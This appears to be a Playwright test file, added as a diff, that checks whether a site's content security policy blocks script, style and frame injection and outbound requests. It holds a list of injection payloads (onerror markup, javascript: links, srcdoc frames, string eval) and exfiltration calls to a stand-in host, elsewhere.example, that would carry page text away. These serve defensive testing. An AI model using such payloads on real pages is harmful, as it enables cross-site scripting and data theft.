@@ -1,0 +1,153 @@
+import type { Page, Route } from '@playwright/test'
+import { expect, test } from '../helpers/local-site-fixture.ts'
+import { pagePerTemplate } from '../helpers/routes.ts'
+
+/* What somebody would try who can write into a page. Each leaves `attacked` behind where it gets through. */
+
+const elsewhere = 'https://elsewhere.example'
+
+const attacks: Record<string, (elsewhere: string) => unknown> = {
+  'an inline script': () => {
+    const script = document.createElement('script')
+    script.append('globalThis.attacked = true')
+    document.head.append(script)
+  },
+  'a script of another site': (elsewhere) => {
+    const script = document.createElement('script')
+    script.setAttribute('src', `${elsewhere}/attack.js`)
+    document.head.append(script)
+  },
+  'a module of another site': (elsewhere) => import(`${elsewhere}/attack.js`),
+  'a script as data': () => {
+    const script = document.createElement('script')
+    script.setAttribute('src', 'data:text/javascript,globalThis.attacked = true')
+    document.head.append(script)
+  },
+  'an event handler': () => document.body.setAttribute('onclick', 'globalThis.attacked = true'),
+  // Later: what a driven browser evaluates itself may do so.
+  'code from a string': () => setTimeout(() => Reflect.construct(Function, ['globalThis.attacked = true'])()),
+  'a timer with a string': () => setTimeout('globalThis.attacked = true' as unknown as () => void),
+  'markup from a string': () => {
+    document.body.innerHTML = '<img src=x onerror="globalThis.attacked = true">'
+  },
+  'a document in a frame': () => {
+    const frame = document.createElement('iframe')
+    frame.setAttribute('srcdoc', '<script>parent.attacked = true</script>')
+    document.body.append(frame)
+  },
+  'a frame of another site': (elsewhere) => {
+    const frame = document.createElement('iframe')
+    frame.src = `${elsewhere}/`
+    document.body.append(frame)
+  },
+  'a link that runs': () => {
+    const link = document.createElement('a')
+    link.href = 'javascript:globalThis.attacked = true'
+    document.body.append(link)
+    link.click()
+  },
+  'a worker': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
+  'a plug-in': (elsewhere) => {
+    const object = document.createElement('object')
+    object.data = `${elsewhere}/attack`
+    document.body.append(object)
+  },
+  'an inline style': () => {
+    const style = document.createElement('style')
+    style.append(':root { --attacked: yes }')
+    document.head.append(style)
+  },
+  'a style attribute': () => document.documentElement.setAttribute('style', '--attacked: yes'),
+  'a style sheet of another site': (elsewhere) => {
+    const link = document.createElement('link')
+    link.rel = 'stylesheet'
+    link.href = `${elsewhere}/attack.css`
+    document.head.append(link)
+  },
+  'a picture of another site, which would carry words away': (elsewhere) => {
+    new Image().src = `${elsewhere}/?words`
+  },
+  'a request to another site': (elsewhere) => fetch(`${elsewhere}/?words`),
+  'a beacon': (elsewhere) => navigator.sendBeacon(`${elsewhere}/`, 'words'),
+  'a socket': (elsewhere) => new WebSocket(elsewhere.replace('https', 'wss')),
+  'another base for every link': (elsewhere) => {
+    const base = document.createElement('base')
+    base.href = elsewhere
+    document.head.append(base)
+    if (document.baseURI.startsWith(elsewhere)) Object.assign(globalThis, { attacked: true })
+  },
+  'a form that sends elsewhere': (elsewhere) => {
+    const form = document.createElement('form')
+    form.action = elsewhere
+    form.method = 'post'
+    document.body.append(form)
+    form.submit()
+  },
+}
+
+for (const { path, template } of pagePerTemplate) {
+  for (const headers of [true, false]) {
+    const host = headers ? 'a host' : 'a host that drops the headers'
+    test(`${template}: nothing gets into the page from ${host}`, async ({
+      page,
+      context,
+      site,
+      troubles,
+    }) => {
+      test.slow()
+      troubles.allow(/./)
+      const asked: string[] = []
+      await context.route(`${elsewhere}/**`, (route) => {
+        asked.push(route.request().url())
+        return route.fulfill({ body: 'globalThis.attacked = true', contentType: 'text/javascript' })
+      })
+      if (!headers) await context.route(`${site.url}/**`, withoutPolicy)
+      for (const [name, run] of Object.entries(attacks)) {
+        await test.step(name, async () => {
+          await page.goto(path)
+          expect.soft(await attack(page, run), name).toEqual({ refused: true, attacked: false, style: '' })
+          expect.soft(new URL(page.url()).origin, name).toBe(site.url)
+          expect.soft(asked.splice(0), name).toEqual([])
+        })
+      }
+    })
+  }
+}
+
+test('no page is shown in a frame of another site', async ({ page, site, troubles }) => {
+  troubles.allow(/./)
+  await page.route(`${elsewhere}/`, (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/"></iframe>` }),
+  )
+  await page.goto(`${elsewhere}/`)
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
+})
+
+async function withoutPolicy(route: Route): Promise<void> {
+  const response = await route.fetch()
+  const { 'content-security-policy': _, ...headers } = response.headers()
+  await route.fulfill({ response, headers })
+}
+
+/** What is left of an attack on the page that is open. */
+async function attack(page: Page, run: (elsewhere: string) => unknown) {
+  const refusal = page.evaluate(
+    () =>
+      new Promise((resolve) => {
+        addEventListener('securitypolicyviolation', () => resolve(true), { once: true })
+        setTimeout(resolve, 3_000, false)
+      }),
+  )
+  // Half of them throw; what counts is what they leave behind.
+  await page.evaluate(run, elsewhere).catch(() => {})
+  await page.locator('body').click({ position: { x: 1, y: 1 }, force: true })
+  const refused = await refusal
+  return page.evaluate(
+    (refused) => ({
+      refused,
+      attacked: 'attacked' in globalThis,
+      style: getComputedStyle(document.documentElement).getPropertyValue('--attacked'),
+    }),
+    refused,
+  )
+}
